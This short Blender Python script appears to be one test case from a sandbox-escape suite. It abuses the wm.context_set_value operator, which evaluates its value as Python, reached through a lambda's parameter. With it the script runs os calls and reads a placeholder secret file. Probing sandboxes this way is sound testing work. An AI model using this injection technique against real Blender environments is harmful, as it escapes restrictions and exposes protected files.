# attack: wm.context_set_value evaluates its value as Python; operators through a lambda's parameter
# family: operators
import bpy

bpy.context.scene["found"] = ""
(lambda tools: tools.wm.context_set_value(data_path='scene["found"]', value="str(__import__('os').getpid())"))(bpy.ops)
if bpy.context.scene["found"]:
    print("REACHED", "Python by wm.context_set_value", bpy.context.scene["found"])
    (lambda tools: tools.wm.context_set_value(data_path='scene["found"]', value="open('$SECRET_FILE').read()"))(bpy.ops)
    print("ESCAPED", bpy.context.scene["found"])
